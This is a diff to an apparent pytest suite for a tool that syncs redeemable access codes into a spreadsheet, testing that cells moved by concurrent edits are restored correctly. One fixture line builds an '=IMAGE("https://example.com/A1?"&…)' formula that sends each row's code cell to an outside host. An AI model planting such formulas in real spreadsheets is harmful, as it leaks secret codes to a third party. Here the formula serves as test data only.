@@ -203,6 +203,8 @@ def test_cells_that_moved_under_a_write_get_back_what_they_held(deliver, sandbox
         at = place(acme.tab)[1]
         shown = [acme.tab.shown_at(row, at) for row in range(acme.tab.row_count)]
         assert sorted(cell for cell in shown if len(cell) == 36) == sorted(acme.codes())
+        use = place(acme.tab, "Use Type")[1]
+        assert not [row for row in range(acme.tab.row_count) if acme.tab.at(row, use) == "one-time" and not shown[row]]
         assert not acme.plan().changed
 
 
@@ -294,4 +296,36 @@ def test_cells_that_move_while_a_repair_waits_for_its_turn_are_restored_where_th
     assert strays == ({"typed meanwhile"} if again == "a-note" else set())
     shown = [tab.shown_at(row, code) for row in range(header + 1, tab.row_count)]
     assert sorted(filter(None, shown)) == sorted(acme.codes())
+    assert not acme.plan().changed
+
+
+@pytest.mark.long
+@pytest.mark.parametrize(
+    "second", ["insert-a", "insert-row-top", "sort-codes", "delete-beside", "code-to-front", "insert-in-ours"]
+)
+@pytest.mark.parametrize("first", ["insert-a", "insert-row-top", "delete-beside", "code-to-front"])
+def test_cells_that_move_under_a_write_and_under_its_repair_get_back_what_they_held(deliver, sandbox, first, second):
+    acme = deliver(cap=6)
+    acme.sync()
+    tab = acme.tab
+    formulas_left(tab)
+    tab.type("B14", "Total")
+    tab.type("D14", "=SUM(D2:D9)")
+    acme.redeem(acme.codes()[1], "ann@example.com")
+    acme.modify(max_learners=8)
+    edits = iter([first, second])
+    sandbox.faults.call(lambda: MOVES[next(edits)](tab), when="before", kind="write", times=2)
+    acme.sync()
+
+    _, code = place(tab)
+    theirs = next(column for column in range(tab.column_count) if tab.at(12, column) is not None)
+    held = {row: cell.text for row in range(tab.row_count) if (cell := tab.at(row, theirs)) is not None}
+    formula = '=IMAGE("https://example.com/A1?"&{}{})'
+    assert held == {row: formula.format(column_letters(code), row + 1) for row in held}
+    assert len(held) == FILLED - 1
+    others = {*range(tab.column_count)} - {theirs, *(place(tab, title)[1] for title in HEADERS)}
+    assert {tab.at(row, other) for row in range(tab.row_count) for other in others} == {None}
+    shown = [tab.shown_at(row, code) for row in range(tab.row_count)]
+    assert sorted(cell for cell in shown if len(cell) == 36) == sorted(acme.codes())
+    assert shown.count("Total") == 1
     assert not acme.plan().changed
